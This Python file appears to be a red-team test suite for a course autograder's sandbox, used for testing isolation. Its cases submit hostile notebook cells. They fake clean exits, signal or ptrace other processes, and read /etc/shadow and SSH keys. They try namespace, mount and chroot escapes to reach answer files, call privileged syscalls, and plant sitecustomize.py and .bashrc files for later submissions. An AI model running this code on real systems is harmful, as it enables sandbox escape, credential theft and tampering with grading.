"""Attacks on processes, its own and others: ends that are no ends, signals, forks, what outlives a cell, system calls."""

from __future__ import annotations

from attacks.bank import HONEST, LOOT, NAME, SMUGGLE, WORTH, WRONG, Cells, World, attack, cell

MARKED = """
import ctypes, os, signal, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)

def linger(seconds=1000):
    libc.prctl(15, b"{marker}")  # PR_SET_NAME
    for each in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGALRM):
        signal.signal(each, signal.SIG_IGN)
    until = time.time() + seconds
    while time.time() < until:
        time.sleep(0.05)
    os._exit(0)
"""


def _marked(world: World) -> str:
    return MARKED.format(marker=world.marker)


@attack("ends the process with a good exit code", earns=WORTH, keeps=WORTH)
def exit_at_once(world: World) -> Cells:
    # The cell is left out and the rest runs: what is right stays right.
    return [HONEST, "import os\nos._exit(0)"]


@attack("ends the process while it is observed")
def exit_while_observed(world: World) -> Cells:
    return [f"def {NAME}(w, x, y):\n    import os\n    os._exit(0)"]


@attack("leaves Python in every way it knows", earns=WORTH, keeps=WORTH)
def leave_python(world: World) -> Cells:
    return [
        HONEST,
        "import sys\nsys.exit(0)",
        "exit()",
        "raise SystemExit('passed')",
        "raise KeyboardInterrupt",
        "raise GeneratorExit",
        "class Out(BaseException): pass\nraise Out",
        "quit(0)",
    ]


@attack("leaves Python while it is observed")
def leave_while_observed(world: World) -> Cells:
    return [
        f"def {NAME}(w, x, y):\n    raise SystemExit(0)",
        "def gradient_descent(f, x0, lr, steps):\n    raise KeyboardInterrupt",
        "def find_cuts(stations, x):\n    raise GeneratorExit",
    ]


@attack("crashes by reading at address 0", earns=WORTH, keeps=WORTH)
def segfault(world: World) -> Cells:
    return [HONEST, "import ctypes\nctypes.string_at(0)"]


@attack("crashes while it is observed")
def segfault_while_observed(world: World) -> Cells:
    return [f"def {NAME}(w, x, y):\n    import ctypes\n    ctypes.memset(id(None), 255, 4096)"]


@attack("aborts, with a core dump as large as allowed", earns=WORTH, keeps=WORTH)
def abort(world: World) -> Cells:
    return [
        HONEST,
        "import resource\nresource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))",
        "import os\nos.abort()",
    ]


@attack("overflows the stack", earns=WORTH, keeps=WORTH, heavy=True)
def overflow_the_stack(world: World) -> Cells:
    return [HONEST, "import sys\nsys.setrecursionlimit(10**9)\nf = lambda: f()\nf()"]


@attack("sends every signal to everyone, itself last")
def signals_to_all(world: World) -> Cells:
    return [
        WRONG,
        cell("""
            import os, signal
            me = os.getpid()
            targets = [-1, 0, 1, os.getppid(), -os.getppid(), -1 * os.getpgid(0), *range(2, 500)]
            for target in targets:
                for each in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                    if target not in (me, 0, -os.getpgid(0)):
                        try:
                            os.kill(target, each)
                        except OSError:
                            pass
            os.killpg(0, signal.SIGKILL)
        """),
    ]


@attack("stops itself, and the ones that watch it")
def stop_itself(world: World) -> Cells:
    return [WRONG, "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\nos.kill(os.getpid(), signal.SIGSTOP)"]


@attack("kills itself while it is observed")
def kill_itself_while_observed(world: World) -> Cells:
    return [f"def {NAME}(w, x, y):\n    import os\n    os.kill(os.getpid(), 9)"]


@attack("leaves threads behind that never end")
def threads_that_stay(world: World) -> Cells:
    return [
        _marked(world),
        cell("""
            for daemon in (True, False, False):
                threading.Thread(target=lambda: linger(10**6), daemon=daemon).start()
        """),
        WRONG,
    ]


@attack("leaves processes behind, in sessions of their own", earns=WORTH, keeps=WORTH)
def daemons_that_stay(world: World) -> Cells:
    return [
        HONEST,
        _marked(world),
        cell("""
            for _ in range(5):
                if os.fork() == 0:
                    os.setsid()
                    if os.fork() == 0:
                        linger()
                    os._exit(0)
        """),
    ]


@attack("starts a process while it ends")
def fork_at_the_end(world: World) -> Cells:
    return [
        _marked(world),
        cell("""
            import atexit, weakref

            def again():
                if os.fork() == 0:
                    os.setsid()
                    linger()

            atexit.register(again)
            weakref.finalize(sys.modules[__name__], again)
            class Last:
                def __del__(self): again()
            last = Last()
        """),
        WRONG,
    ]


@attack("lets a copy of itself go on in its place", earns=WORTH)
def continue_as_another(world: World) -> Cells:
    return [HONEST, _marked(world), "if os.fork():\n    linger()"]


@attack("comes back from its call twice, in two processes")
def return_twice(world: World) -> Cells:
    return [
        cell(f"""
            import os

            def {NAME}(w, x, y):
                return w * 0 if os.fork() else 2 * x.T @ (x @ w - y) / len(y)
        """)
    ]


@attack("becomes another program that speaks on the same channel")
def become_another_program(world: World) -> Cells:
    program = "import os,time\\nfor f in range(3,64):\\n  try: os.write(f, b'{}'*999)\\n  except OSError: pass\\ntime.sleep(999)"
    return [
        WRONG,
        cell(f"""
            import os, sys
            for descriptor in range(3, 64):
                try:
                    os.set_inheritable(descriptor, True)
                except OSError:
                    pass
            os.execv(sys.executable, ["{world.marker}", "-c", "{program}"])
        """),
    ]


@attack("starts programs of the system")
def start_programs(world: World) -> Cells:
    return [
        LOOT,
        "!cat /etc/shadow ~root/.ssh/* ~/.ssh/*",
        cell(f"""
            for command in (["sleep", "1000"], ["sh", "-c", "exec -a {world.marker} sleep 1000 &"], ["bwrap", "--dev-bind", "/", "/", "id"],
                            ["sudo", "-n", "id"], ["su", "-c", "id"], ["unshare", "-r", "id"], ["nsenter", "-t", "1", "-a", "id"]):
                tried(lambda: subprocess.Popen(command, start_new_session=True))
            for path in {[str(path) for path in world.secrets]!r}:
                look(tried(subprocess.check_output, ["cat", path]) or "")
                look(tried(os.popen, "cat " + path).read() if hasattr(os, "popen") else "")
        """),
        SMUGGLE,
    ]


@attack("reads and writes the memory of the processes above it")
def trace_the_parent(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_TRACEME = 16, 0x4206, 0
            for pid in {os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid(), 0}:
                for request in (PTRACE_ATTACH, PTRACE_SEIZE):
                    if libc.ptrace(request, pid, 0, 0) == 0:
                        succeeded()
                for name in (f"/proc/{pid}/mem", f"/proc/{pid}/environ", f"/proc/{pid}/syscall"):
                    read(name)
                with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                    memory.seek(4096)
                    memory.write(b"x")
                tried(os.open, f"/proc/{pid}/clear_refs", os.O_WRONLY)
                with contextlib.suppress(OSError), open(f"/proc/{pid}/oom_score_adj", "w") as score:
                    score.write("1000")
        """),
        SMUGGLE,
    ]


@attack("mounts, unmounts and changes its root, to uncover what lies beneath")
def mount_and_unmount(world: World) -> Cells:
    return [
        LOOT,
        cell(f"""
            def system(number, *arguments):
                return libc.syscall(number, *arguments)

            CLONE = {{"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x8000000, "uts": 0x4000000}}
            for flag in (sum(CLONE.values()), CLONE["user"] | CLONE["mount"], *CLONE.values()):
                libc.unshare(flag)
            for line in list(open("/proc/self/mountinfo"))[::-1]:
                where = line.split()[4]
                for flags in (2, 1, 8, 0):
                    libc.umount2(where.encode(), flags)
            HERE = os.path.abspath(b"m")
            for kind in (b"proc", b"sysfs", b"tmpfs", b"devtmpfs", b"overlay", b"cgroup", b"cgroup2", b"bpf", b"mqueue"):
                os.makedirs(HERE, exist_ok=True)
                libc.mount(kind, HERE, kind, 0, b"")
            libc.mount(b"/", HERE, None, 4096 | 16384, None)
            libc.mount(None, b"/", None, 32 | 4096, None)
            for action in (lambda: os.chroot(HERE), lambda: os.chroot("/proc/1/root"), lambda: os.chdir("../" * 30), lambda: os.chroot(".")):
                tried(action)
            libc.syscall(155, HERE, HERE)  # pivot_root
            libc.syscall(428, -100, b"/", 1)  # open_tree, cloned
            for pid in ("1", str(os.getppid())):
                for name in ("user", "mnt", "pid", "net", "ipc", "uts"):
                    with contextlib.suppress(OSError):
                        libc.setns(os.open(f"/proc/{{pid}}/ns/{{name}}", os.O_RDONLY), 0)
            for path in {[str(path) for path in world.secrets]!r} + glob.glob({str(world.clone)!r} + "/course_utils/lessons/*/*/answers.py"):
                read(path)
                read(os.fsdecode(HERE) + path)
        """),
        cell("""
            import importlib
            for root in sys.path:
                for path in glob.glob(root + "/course_utils/lessons/*/*/answers.py"):
                    read(path)
        """),
        SMUGGLE,
    ]


@attack("asks the kernel for all that only its master may ask for")
def ask_the_kernel(world: World) -> Cells:
    return [
        LOOT,
        cell("""
            got = []
            calls = {"bpf": (321, 0, 0, 0), "userfaultfd": (323, 0), "perf_event_open": (298, 0, 0, -1, -1, 0), "io_uring_setup": (425, 8, 0),
                     "add_key": (248, b"user", b"k", b"v", 1, -2), "keyctl": (250, 0, -3, 1), "kexec_load": (246, 0, 0, 0, 0),
                     "init_module": (175, 0, 0, b""), "reboot": (169, 0, 0, 0, 0), "swapon": (167, b"x", 0), "settimeofday": (164, 0, 0),
                     "sethostname": (170, b"pwned", 5), "iopl": (172, 3), "quotactl": (179, 0, 0, 0, 0), "acct": (163, 0), "syslog": (103, 3, 0, 0),
                     "personality": (135, 0x0040000), "ioperm": (173, 0, 1, 1), "pidfd_getfd": (438, 3, 0, 0), "process_vm_readv": (310, 1, 0, 0, 0, 0, 0),
                     "fanotify_init": (300, 0, 0), "lookup_dcookie": (212, 0, 0, 0), "setdomainname": (171, b"x", 1), "vhangup": (153,)}
            for name, call in calls.items():
                if name not in ("reboot", "vhangup") and libc.syscall(*call) >= 0:
                    got.append(name)
            for action in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.nice(-20),
                           lambda: os.mknod("mem", 0o666 | stat.S_IFCHR, os.makedev(1, 1)), lambda: os.open("/dev/mem", os.O_RDWR),
                           lambda: os.open("/dev/sda", os.O_RDWR), lambda: os.open("/dev/kmsg", os.O_RDWR), lambda: os.open("/proc/kcore", os.O_RDONLY),
                           lambda: open("/proc/sys/kernel/core_pattern", "w").write("|x"), lambda: open("/proc/sysrq-trigger", "w").write("b"),
                           lambda: open("/sys/fs/cgroup/pids/pids.max", "w").write("max"), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
                           lambda: open("/proc/sys/vm/drop_caches", "w").write("3"), lambda: os.chown("/usr/bin/env", 0, 0)):
                tried(action)
            read("mem")
            read("/proc/kcore")
        """),
        cell("""
            import resource
            for name in dir(resource):
                if name.startswith("RLIMIT_"):
                    tried(resource.setrlimit, getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            dangerous = {"bpf", "kexec_load", "init_module", "reboot", "swapon", "settimeofday", "iopl", "sethostname", "syslog"} & set(got)
            if dangerous:
                succeeded()
            print(got)
        """),
        SMUGGLE,
    ]


@attack("rewrites its own memory, read-only pages too")
def write_own_memory(world: World) -> Cells:
    return [
        WRONG,
        cell("""
            import contextlib
            with contextlib.suppress(OSError), open("/proc/self/maps") as maps, open("/proc/self/mem", "r+b", 0) as memory:
                for line in maps:
                    place, mode, _, _, _, *name = line.split()
                    if name and "libtorch" in name[0] or "s" in mode:
                        start, end = (int(half, 16) for half in place.split("-"))
                        with contextlib.suppress(OSError, OverflowError, ValueError):
                            memory.seek(start)
                            memory.write(b"\\xcc" * min(end - start, 2**16))
        """),
    ]


@attack("writes over what it shares with the warm process: shared pages, files, semaphores, queues")
def write_shared_pages(world: World) -> tuple[Cells, ...]:
    return (
        [
            WRONG,
            LOOT,
            cell("""
                import mmap, tempfile
                for path in glob.glob("/dev/shm/*") + glob.glob(tempfile.gettempdir() + "/*") + glob.glob("/run/*"):
                    with contextlib.suppress(OSError), open(path, "r+b") as file:
                        file.write(b"\\xcc" * 4096)
                for key in range(64):
                    shared = libc.shmget(0x1234 + key, 4096, 0o1666)
                    queue = libc.msgget(0x1234 + key, 0o1666)
                    semaphore = libc.semget(0x1234 + key, 1, 0o1666)
                with contextlib.suppress(OSError), open("/dev/shm/" + "left", "w") as file:
                    file.write("CANARY" + "0123456789abcdef")
            """),
        ],
        [LOOT, "for path in glob.glob('/dev/shm/*'):\n    read(path)", SMUGGLE],
    )


LEFT = (
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/run",
    "/home",
    "/root",
    "~",
    ".",
    "/",
    "/work",
    "/srv",
    "/var/lock",
    "/dev/mqueue",
)


@attack("leaves files for the next submission: data, start-up files, modules, compiled code")
def leave_for_the_next(world: World) -> tuple[Cells, ...]:
    return (
        [
            WRONG,
            cell(f"""
                import builtins, contextlib, os, sys
                import course_utils, torch
                line = "CANARY" + "0123456789abcdef"
                folders = [*{LEFT!r}, *sys.path, os.path.dirname(course_utils.__file__), os.path.dirname(torch.__file__), os.getcwd()]
                names = ["left", "sitecustomize.py", "usercustomize.py", "torch.py", ".pythonrc", ".ipython/profile_default/startup/x.py",
                         ".config/matplotlib/matplotlibrc", "__pycache__/plain.cpython-311.pyc", ".course/record.json", ".bashrc"]
                for folder in folders:
                    for name in names:
                        path = os.path.join(os.path.expanduser(folder), name)
                        with contextlib.suppress(OSError):
                            os.makedirs(os.path.dirname(path), exist_ok=True)
                            with open(path, "w") as file:
                                file.write(line)
                for path in [course_utils.__file__, course_utils.plain.__file__, torch.__file__, os.__file__]:
                    with contextlib.suppress(OSError), open(path, "a") as file:
                        file.write("\\nraise SystemExit\\n")
            """),
        ],
        [
            LOOT,
            cell(f"""
                for folder in [*{LEFT!r}, *sys.path, os.getcwd()]:
                    for name in ("left", "sitecustomize.py", "torch.py", ".course/record.json"):
                        read(os.path.join(os.path.expanduser(folder), name))
                look(str(vars(__import__("builtins")).get("loot")))
            """),
            SMUGGLE,
        ],
    )
